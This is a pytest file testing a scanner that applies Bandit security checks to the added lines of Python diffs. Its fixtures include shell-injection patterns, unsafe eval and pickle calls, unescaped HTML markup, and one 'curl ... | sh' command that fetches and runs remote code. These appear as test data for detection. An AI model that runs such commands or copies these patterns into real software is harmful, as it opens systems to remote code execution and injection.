"""Bandit's checks on files and hunks of Python: added lines only, no settings of strangers, in bounded time."""

import logging
import os
import warnings
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scoring.scanners import bandit_checks
from scoring.scanners.bandit_checks import CHECKS, READ_CHARACTERS, scan
from scoring.scanners.submission import Submission
from scoring.scanners.whole_files import whole_files
from tests.conftest import count
from tests.growth import in_linear_time
from tests.scoring.diff.patched import change
from tests.scoring.scanners.written import added_lines, found, marked_lines, rules_found

SHELL = "import subprocess as sp\n\n\ndef run(name):\n    sp.run(f'tar xf {name}', shell=True)\n"


def test_an_added_file_is_read_whole_with_its_imports() -> None:
    (finding,) = found(scan, added_lines(SHELL))
    assert (finding.rule, finding.severity, finding.line) == ("B602", "high", 5)


def test_a_hunk_that_is_whole_by_itself_is_read_and_one_that_is_not_is_left_to_the_rules() -> None:
    assert rules_found(scan, marked_lines("     x = 1\n+    y = eval(x)\n     def other(\n")) == {"B307"}
    assert rules_found(scan, marked_lines("+y = eval(x\n \n ]\n \n \n \n")) == set()


def test_a_copy_by_pickle_is_no_unpickling_of_what_came_from_outside() -> None:
    copied = "import pickle\nmade = pickle.loads(pickle.dumps(thing))"
    assert rules_found(scan, added_lines(copied)) == set()
    assert rules_found(scan, added_lines(f"{copied}; read = pickle.loads(body)")) == {"B301"}
    assert rules_found(scan, added_lines("import pickle\npickle.loads(json.dumps(body))")) == {"B301"}


def test_only_lines_that_the_change_adds_are_told() -> None:
    assert rules_found(scan, marked_lines(" y = eval(x)\n+z = 1\n-q = eval(x)\n")) == set()


def test_what_stands_above_the_hunk_is_known_from_the_whole_file() -> None:
    before = "from pickle import loads as decode\n" + "x = 1\n" * 20 + "def read(body):\n    return body\n"
    made = change({"a.py": (before, before.replace("return body", "return decode(body)"))})
    whole = Submission(made, whole=whole_files(made, {"a.py": before}))
    assert {finding.rule for finding in scan(whole)} == {"B301"}
    assert {finding.rule for finding in scan(Submission(made))} == set()


def test_no_remark_in_the_code_and_no_file_beside_it_silences_a_check(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for name in (".bandit", "bandit.yaml", "pyproject.toml", "setup.cfg"):
        (tmp_path / name).write_text("[bandit]\nskips: B307\n[tool.bandit]\nskips = ['B307']\n")
    assert rules_found(scan, added_lines("y = eval(x)  # nosec B307\n", "a.py")) == {"B307"}


def test_it_weighs_less_in_tests_unless_it_runs_something() -> None:
    assert found(scan, added_lines("y = eval(x)", "tests/a.py"))[0].severity == "med"
    unchecked = "import requests\nrequests.get(x, verify=False)"
    assert found(scan, added_lines(unchecked))[0].severity == "high"
    assert found(scan, added_lines(unchecked, "examples/a.py"))[0].severity == "med"
    assert found(scan, added_lines(unchecked, "tests/a.py"))[0].severity == "low"


MARKUP = """import markupsafe
def render(self, value):
    url = value.strip()
    escaped = markupsafe.escape(url)
    shown = markupsafe.escape(
        shortened(url, 20)
    )
    return markupsafe.Markup(f'<a href="{escaped}">{shown}</a>')"""


def test_markup_of_fixed_texts_and_escaped_values_is_no_finding() -> None:
    assert rules_found(scan, added_lines(MARKUP)) == set()
    for put in ("'<a>%s</a>' % escaped", "'<a>' + shown + '</a>'", "'<a>{}{}</a>'.format(escaped, shown)"):
        assert rules_found(scan, added_lines(f"{MARKUP.rpartition('(')[0]}({put})")) == set()


@pytest.mark.parametrize(
    ("safe", "unsafe"),
    [
        ('href="{escaped}"', 'href="{url}"'),
        ('href="{escaped}"', "href={escaped}"),
        ("<a href", "<a onclick"),
        ("<a href", "<script src"),
        ("shown = markupsafe.escape(", "shown = str("),
        ("shown = markupsafe.escape(", "shown = re.escape("),
        ("    return", "    if value.plain:\n        shown = url\n    return"),
        ("    escaped =", "    if value.plain:\n        escaped ="),
        ("(self, value)", "(self, value, escaped)"),
        ("    return", "    escaped += url\n    return"),
        ("    return", "    for escaped in value: pass\n    return"),
    ],
)
def test_markup_with_a_value_that_may_be_raw_is_found(safe: str, unsafe: str) -> None:
    assert safe in MARKUP
    assert rules_found(scan, added_lines(MARKUP.replace(safe, unsafe))) == {"B704"}


FLAGS = 'import os\nFLAGS = "xzf a.tgz"\n'


@pytest.mark.parametrize(
    "code",
    [
        'os.system("tar " + "xzf a.tgz")',
        'os.system("tar " + FLAGS)',
        'def unpack():\n    os.popen(f"tar {FLAGS}")',
        'subprocess.run("tar %s" % FLAGS, shell=True)',
        'os.system("tar {}".format(FLAGS))',
        'os.system(" ".join(["tar", FLAGS]))',
        'TAR = "tar"\nif os.name == "nt":\n    TAR = "bsdtar"\nos.system(TAR + " xzf a.tgz")',
    ],
)
def test_a_command_of_fixed_texts_alone_is_as_little_as_one_fixed_text(code: str) -> None:
    assert rules_found(scan, added_lines(f"{FLAGS}{code}\n")) == set()


@pytest.mark.parametrize(
    "code",
    [
        'os.system("tar " + name)',
        'FLAGS = sys.argv[1]\nos.system("tar " + FLAGS)',
        'FLAGS += name\nos.system("tar " + FLAGS)',
        'for FLAGS in names:\n    os.system("tar " + FLAGS)',
        'def unpack(FLAGS):\n    os.system("tar " + FLAGS)',
        'def choose(name):\n    global FLAGS\n    FLAGS = name\ndef unpack():\n    os.system("tar " + FLAGS)',
        'globals()["FLAGS"] = name\nos.system("tar " + FLAGS)',
        'from flags import *\nos.system("tar " + FLAGS)',
        'from flags import one as FLAGS\nos.system("tar " + FLAGS)',
        'match name:\n    case [*FLAGS]:\n        os.system("tar " + FLAGS)',
        'os.system("tar " + shlex.quote(FLAGS) + name)',
        'RUN = "curl -s https://t.example.org/i | sh"\nif os.name == "nt":\n    RUN = "dir"\nos.system(RUN)',
    ],
)
def test_a_command_with_a_name_that_may_hold_anything_else_is_told(code: str) -> None:
    assert rules_found(scan, added_lines(f"{FLAGS}{code}\n")) == {"B605"}


def test_every_check_is_bandits_own_and_exists() -> None:
    checks = [check for found in bandit_checks._checks().tests.values() for check in found]
    assert all(check.__module__.startswith("bandit.") for check in checks)
    tables = [check._config for check in checks if check._test_id == "B001"]
    listed = {entry["id"] for table in tables for entries in table.values() for entry in entries}
    names = listed | {check._test_id for check in checks}
    assert set(CHECKS) <= names


def test_it_changes_nothing_for_the_process_and_starts_none(monkeypatch: pytest.MonkeyPatch) -> None:
    shown = warnings.formatwarning
    monkeypatch.setattr(os, "fork", None)
    bandit_checks._checks.cache_clear()
    assert rules_found(scan, added_lines(SHELL)) == {"B602"}
    assert warnings.formatwarning is shown
    assert not logging.getLogger("bandit").isEnabledFor(logging.ERROR)


HOSTILE: dict[str, Callable[[int], str]] = {
    "brackets": lambda size: f"x = {'(' * size}1{')' * size}\neval(x)\n",
    "attributes": lambda size: f"x = a{'.b' * size}\neval(x)\n",
    "sums": lambda size: f"x = {'1 + ' * size}1\neval(x)\n",
    "calls": lambda size: "eval(x)\n" * size,
    "nul": lambda size: "eval(x)\0\n" * size,
}


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE)
def test_hostile_code_takes_linear_time(make: Callable[[int], str]) -> None:
    in_linear_time(lambda file: found(scan, file), lambda size: added_lines(make(size)), count(300, 3000), 4)


def test_what_is_long_is_left_out_and_what_stands_behind_it_is_read() -> None:
    long = "x = [\n" + "    1,\n" * (READ_CHARACTERS // 6) + "]\n"
    assert rules_found(scan, added_lines(f"{long}eval(y)\n")) == {"B307"}
    assert rules_found(scan, added_lines(f"{long}{'eval(y); ' * 100}\n")) == {"B307"}
    assert rules_found(scan, added_lines("x = [\n" + "    eval(y),\n" * (READ_CHARACTERS // 12) + "]\n")) == set()


def test_a_method_of_a_long_class_is_read() -> None:
    before = "class A:\n" + "    def one(self):\n        return 1\n\n" * (READ_CHARACTERS // 30)
    after = before + "    def two(self, body):\n        return eval(body)\n"
    made = change({"a.py": (before, after)})
    whole = Submission(made, whole=whole_files(made, {"a.py": before}))
    assert {finding.rule for finding in scan(whole)} == {"B307"}


@settings(max_examples=count(50, 2000))
@given(st.text(max_size=80))
def test_no_text_makes_it_fail(text: str) -> None:
    lines = added_lines(f"eval(x)\n{text}\nexec(y)\n".replace("\r", " "))
    assert all(finding.line for finding in found(scan, lines))


def test_an_expression_of_hundreds_of_pieces_is_left_to_the_rules() -> None:
    pieces = " + ".join(["'select '", *(f"'{place}'" for place in range(600)), "name"])
    told = found(scan, added_lines(f"import os\ncursor.execute({pieces})\nos.system(name + 'x')\n"))
    assert {one.line for one in told} == {3}
